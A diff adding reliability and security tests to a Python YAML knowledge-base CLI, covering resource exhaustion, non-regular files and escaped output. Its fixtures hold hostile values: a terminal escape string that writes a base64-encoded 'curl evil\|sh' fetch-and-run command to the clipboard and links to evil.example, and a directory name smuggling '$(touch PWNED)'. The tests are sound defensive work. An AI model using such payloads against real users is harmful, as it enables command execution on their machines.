@@ -7,6 +7,8 @@ a second. The small static cases live in tests/hostile/ (see test_loading.py).
 
 from __future__ import annotations
 
+import json
+import os
 import shutil
 import subprocess
 import sys
@@ -222,3 +224,215 @@ def test_control_characters_in_file_names_and_keys_are_shown_escaped(
         assert "\x07" not in err
         assert "\\x1b]0;pwned\\x07.yaml:2:" in err
         assert "\\x1b[2Jkey" in err
+
+
+# Bounded cost for any input (reliability review 2: M1-M3, L7) ------------------------------
+
+
+def _unknown_keys(tmp_path: Path) -> Path:
+    keys = "\n    ".join(f"k{i}: {i}" for i in range(40_000))
+    return _data_dir(tmp_path, f"organizations:\n  - {keys}\n")
+
+
+def _tiny_records(tmp_path: Path) -> Path:
+    return _data_dir(tmp_path, "organizations:\n" + "- {}\n" * 1_000_000)
+
+
+def _flow_records(tmp_path: Path) -> Path:
+    text = "organizations: [" + "{}," * 5_500_000 + "]\n"
+    assert len(text) < MAX_FILE_BYTES
+    return _data_dir(tmp_path, text)
+
+
+def _many_bad_records(tmp_path: Path) -> Path:
+    return _data_dir(tmp_path, "organizations:\n" + "- {id: x}\n" * 50_000)
+
+
+def _too_many_records(tmp_path: Path) -> Path:
+    return _data_dir(tmp_path, "organizations:\n" + "- x\n" * 200_000)
+
+
+def _sparse_3_gib(tmp_path: Path) -> Path:
+    data = _data_dir(tmp_path, ORGANIZATION.format(description="A company."))
+    with (data / "big.yaml").open("wb") as out:
+        out.truncate(3 * 1024**3)  # no disk used, but 3 GiB to read
+    return data
+
+
+BOUNDED = [
+    pytest.param(_unknown_keys, "unknown field", id="M1"),
+    pytest.param(_tiny_records, "lists, mappings and items; the limit is", id="M2-tiny-records"),
+    pytest.param(_flow_records, "lists, mappings and items; the limit is", id="M2-flow-records"),
+    pytest.param(_many_bad_records, "more than ", id="M2-errors"),
+    pytest.param(_too_many_records, "records; the limit is 100,000", id="M2-records"),
+    pytest.param(_sparse_3_gib, "big.yaml: file is 3,221,225,472 bytes", id="M3"),
+]
+
+
+@pytest.mark.parametrize(("make", "expected"), BOUNDED)
+def test_any_input_is_refused_at_a_bounded_cost(run_cli, tmp_path, make, expected) -> None:
+    data = make(tmp_path)
+    _refused(run_cli, data, expected, limit=2.0)
+    result = run_cli("--data", str(data), "validate")
+    assert len(result.stderr.splitlines()) <= 1_002  # 1,000 problems, "... and more", a total
+    query = run_cli("--data", str(data), "stats")
+    assert len(query.stderr.splitlines()) <= 23
+
+
+def _fifo(path: Path) -> None:
+    os.mkfifo(path)
+
+
+def _directory(path: Path) -> None:
+    path.mkdir()
+
+
+def _dev_zero(path: Path) -> None:
+    path.symlink_to("/dev/zero")
+
+
+NOT_FILES = [
+    pytest.param(_fifo, "zz.yaml: is a FIFO (named pipe), not a regular file", id="L7-fifo"),
+    pytest.param(_directory, "zz.yaml: is a directory, not a regular file", id="L7-directory"),
+    pytest.param(_dev_zero, "zz.yaml: is a character device, not a regular", id="L7-dev-zero"),
+]
+
+
+@pytest.mark.parametrize(("make", "expected"), NOT_FILES)
+def test_a_yaml_name_that_is_not_a_file_is_reported(run_cli, tmp_path, make, expected) -> None:
+    data = _data_dir(tmp_path, ORGANIZATION.format(description="A company."))
+    make(data / "zz.yaml")
+    _refused(run_cli, data, f"{data}/{expected}")
+
+
+@pytest.mark.parametrize("finding", [pytest.param("L7-emacs-lock", id="L7-emacs-lock")])
+def test_an_editor_lock_link_is_ignored(run_cli: RunCli, tmp_path: Path, finding) -> None:
+    # L7: Emacs links `.#deals.yaml` to user@host.pid while a buffer is modified.
+    data = _data_dir(tmp_path, ORGANIZATION.format(description="A company."))
+    (data / ".#organizations.yaml").symlink_to("root@host.12345:1700000000")
+    (data / ".organizations.yaml.swp").write_bytes(b"\x00vim swap")
+    assert run_cli("--data", str(data), "validate").stdout == "OK: 2 records in 2 files\n"
+    result = run_cli("--data", str(data), "company", "acme", "--json")
+    assert result.exit_code == 0, result.stderr
+
+
+# No raw control sequence in any output (reliability review 2: M4, L12) ----------------------
+
+ESCAPES = (
+    "\\e]0;PWNED-TITLE\\e\\\\\\e]52;c;Y3VybCBldmlsfHNo\\a\\e]8;;https://evil.example/\\a\\x9b2J"
+)
+INVISIBLE = "\u200b\u200d\u2060\ufeff\u00ad\u115f\u3164\u180e\u034f\u2028\u2029\U000e0041"
+RAW = ("\x1b", "\x07", "\x9b", *INVISIBLE)
+
+
+def _strategy_data(tmp_path: Path, name: str) -> Path:
+    organization = ORGANIZATION.format(description="A company.").replace(
+        "name: Acme", f'name: "Acme{name}"'
+    )
+    strategy = (
+        "strategy:\n  - {id: aim-one, group: aims, title: t, owner: acme, summary: s,"
+        " citations: [{source: article, excerpt: Acme}]}\n"
+    )
+    return _data_dir(tmp_path, organization + strategy)
+
+
+OUTPUTS = [
+    pytest.param(["strategy", "--no-pager"], ESCAPES, id="M4-strategy-title"),
+    pytest.param(["export", "--format", "csv"], ESCAPES, id="M4-export-csv"),
+    pytest.param(["export", "--format", "markdown"], ESCAPES, id="M4-export-markdown"),
+    pytest.param(["strategy", "--no-pager"], INVISIBLE, id="L12-strategy"),
+    pytest.param(["company", "--no-pager"], INVISIBLE, id="L12-company"),
+    pytest.param(["company", "acme", "--no-pager"], INVISIBLE, id="L12-profile"),
+    pytest.param(["company", "--json"], INVISIBLE, id="L12-json"),
+    pytest.param(["search", "acme", "--no-pager"], INVISIBLE, id="L12-search"),
+]
+
+
+@pytest.mark.parametrize(("args", "name"), OUTPUTS)
+def test_no_raw_control_or_invisible_character_is_printed(run_cli, tmp_path, args, name) -> None:
+    data = _strategy_data(tmp_path, name)
+    result = run_cli("--data", str(data), *args)
+    assert result.exit_code == 0, result.stderr
+    assert "Acme" in result.stdout
+    for char in RAW:
+        assert char not in result.stdout, (char, result.stdout[:500])
+    if args[-1] == "--json":
+        names = [record["name"] for record in json.loads(result.stdout)]
+        assert names == [f"Acme{INVISIBLE}"]  # the escapes read back as the same text
+
+
+@pytest.mark.parametrize("finding", [pytest.param("M4-completion", id="M4-completion")])
+def test_shell_completion_prints_no_raw_control(tmp_path: Path, finding) -> None:
+    data = _strategy_data(tmp_path, ESCAPES)
+    result = subprocess.run(
+        [sys.executable, "-m", "softbank_kb"],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        env={
+            "PATH": "/usr/bin:/bin",
+            "SBKB_NO_CACHE": "1",
+            "_SBKB_COMPLETE": "bash_complete",
+            "COMP_WORDS": f"sbkb --data {data} company ",
+            "COMP_CWORD": "4",
+        },
+        check=False,
+    )
+    assert result.returncode == 0, result.stderr
+    assert "Acme" in result.stdout  # M4: the candidate is there, escaped
+    for char in RAW:
+        assert char not in result.stdout
+
+
+# Messages and dates (reliability review 2: L9, L13, L15) ------------------------------------
+
+
+@pytest.mark.parametrize("finding", [pytest.param("L9", id="L9")])
+def test_the_validate_hint_is_shell_quoted(run_cli: RunCli, tmp_path: Path, finding) -> None:
+    # L9: copying the hint must not run the `$(...)` in the directory's name.
+    data = tmp_path / "kb$(touch PWNED)"
+    data.mkdir()
+    (data / "sources.yaml").write_text(SOURCES, encoding="utf-8")
+    (data / "organizations.yaml").write_text("organizations: 5\n", encoding="utf-8")
+    result = run_cli("--data", str(data), "stats")
+    assert result.exit_code == 3
+    assert f"Run `sbkb --data '{data}' validate`" in result.stderr
+
+
+@pytest.mark.parametrize(
+    "date",
+    [
+        pytest.param('"２０２４-１１"', id="L13-fullwidth"),
+        pytest.param('"٢٠٢٤"', id="L13-arabic-indic"),
+        pytest.param('"2024\\n"', id="L13-final-newline"),
+    ],
+)
+def test_dates_take_ascii_digits_only(run_cli: RunCli, tmp_path: Path, date: str) -> None:
+    event = (
+        f"events:\n  - id: launch\n    date: {date}\n    title: Launch\n"
+        "    description: x\n    citations: [{source: article, excerpt: Acme}]\n"
+    )
+    data = _data_dir(tmp_path, ORGANIZATION.format(description="A company."))
+    (data / "events.yaml").write_text(event, encoding="utf-8")
+    _refused(run_cli, data, "events.yaml:3:11: date:")
+    _refused(run_cli, data, "is not a date of the form YYYY, YYYY-MM or YYYY-MM-DD")
+
+
+@pytest.mark.parametrize(
+    ("byte", "expected"),
+    [
+        pytest.param(
+            b"\x00", "organizations.yaml:5:27: invalid YAML: character U+0000", id="L15-nul"
+        ),
+        pytest.param(
+            b"\x1b", "organizations.yaml:5:27: invalid YAML: character U+001B", id="L15-esc"
+        ),
+    ],
+)
+def test_a_control_byte_is_reported_with_line_and_column(run_cli, tmp_path, byte, expected):
+    text = ORGANIZATION.format(description="A company.").encode()
+    data = _data_dir(tmp_path, text.replace(b"A company.", b"A company" + byte))
+    _refused(run_cli, data, expected)
+    result = run_cli("--data", str(data), "validate")
+    assert "position" not in result.stderr
+    assert len(result.stderr.splitlines()) == 2  # the problem, and the count
